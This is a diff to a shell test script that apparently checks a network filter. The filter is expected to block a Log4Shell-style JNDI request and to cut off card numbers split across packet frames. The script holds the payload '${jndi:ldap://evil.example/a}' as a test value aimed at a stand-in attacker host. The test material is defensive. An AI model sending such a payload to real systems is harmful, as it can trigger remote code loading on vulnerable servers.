@@ -7,6 +7,8 @@ set -euo pipefail
 
 mtu_bytes=9000
 bulk_bytes=50000000
+# Where in a page a number stands, at least: within what a server sends at once, in full segments.
+split_from=20000
 attack="\${jndi:ldap://evil.example/a}"
 # Of a UMEM frame of 4096 bytes, the kernel keeps 256.
 desc_bytes=3840
@@ -45,14 +47,15 @@ request_with() {
 
 # response_with DIGITS: a page in which so many digits of a card number are in the first descriptor of their frame.
 response_with() {
-    local from=110000 offset bytes
+    local offset bytes
     # Where the page's segments begin follows from the length of the response's header.
-    offset=$((from + segment_bytes - (from + header_bytes - border + $1) % segment_bytes))
+    offset=$((split_from + segment_bytes - (split_from + header_bytes - border + $1) % segment_bytes))
     page_with "$offset" "$card" >"$dir/site/pages/split.txt"
     fetch "$dir/got" "http://$server_v4/split.txt"
     bytes=$(stat -c %s "$dir/got")
     check_equal "$attach: a card number behind its digit $1: reset with $bytes bytes received" "$curl_exit" 56
-    [[ $bytes -lt $((offset + 16)) ]] || fail "the number is complete at the client"
+    check_equal "$attach: and it was in the middle of the next frame" $(((bytes + header_bytes) % segment_bytes)) 0
+    [[ $bytes -lt $offset ]] || fail "the number is complete at the client"
     cmp -s -n "$bytes" "$dir/got" "$dir/site/pages/split.txt" || fail "what was received is not what was sent"
 }
 
@@ -72,7 +75,7 @@ carries() {
     done
     request_with "${attack//jndi/jndj}" 7 "harmless-$attach"
     check "$attach: a harmless request of the same length arrives" site_logged "harmless-$attach"
-    page_with 110000 "$no_card" >"$dir/site/pages/split.txt"
+    page_with "$split_from" "$no_card" >"$dir/site/pages/split.txt"
     fetch "$dir/got" "http://$server_v4/split.txt"
     header_bytes=$curl_header_bytes
     check "$attach: a number that is no card's arrives" cmp -s "$dir/got" "$dir/site/pages/split.txt"
